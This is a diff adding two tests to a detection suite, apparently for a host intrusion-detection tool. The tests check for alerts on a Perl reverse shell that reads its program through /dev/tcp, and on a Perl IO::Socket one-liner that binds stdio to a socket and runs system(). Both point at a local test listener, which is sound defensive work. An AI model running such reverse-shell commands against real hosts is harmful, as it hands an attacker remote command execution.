@@ -225,6 +225,29 @@ describe('detection end to end (root, real driver, default rule pack)', { skip: 
     assert.equal(alert.rule.severity, 'high');
   });
 
+  it('an interpreter reading its program from a socket (a reverse shell in Perl) raises a critical alert', async () => {
+    const since = new Date().toISOString();
+    let port = 0;
+    await withShellListener((p) => {
+      port = p;
+      return `exec /usr/bin/perl <>/dev/tcp/127.0.0.1/${p} >&0 2>&0`;
+    });
+    const alert = await waitForAlert('interpreter_reads_socket for perl', since, (a) => a.rule.id === 'interpreter_reads_socket' && mentions(a, `127.0.0.1:${port}`));
+    assert.equal(alert.rule.severity, 'critical');
+  });
+
+  it('a command run on a socket by a program that is no shell (an implant\'s system()) raises an alert', async () => {
+    const since = new Date().toISOString();
+    const marker = `implant-${process.pid}`;
+    await withShellListener(
+      (port) =>
+        `/usr/bin/perl -e 'use IO::Socket::INET; my $s = IO::Socket::INET->new("127.0.0.1:${port}") or die; open(STDIN, "<&", $s); open(STDOUT, ">&", $s); system("/usr/bin/env", "true", "${marker}")'`,
+    );
+    const alert = await waitForAlert('socket_stdio_command_unknown_parent for env', since, (a) => a.rule.id === 'socket_stdio_command_unknown_parent' && mentions(a, marker));
+    assert.equal(alert.rule.severity, 'medium');
+    assert.match(alert.message, /by \/usr\/bin\/perl/);
+  });
+
   it('a process named auditd killed by SIGKILL raises an alert', async () => {
     const since = new Date().toISOString();
     // A program called auditd (a copy of sleep): the exit event carries its comm and exit code.
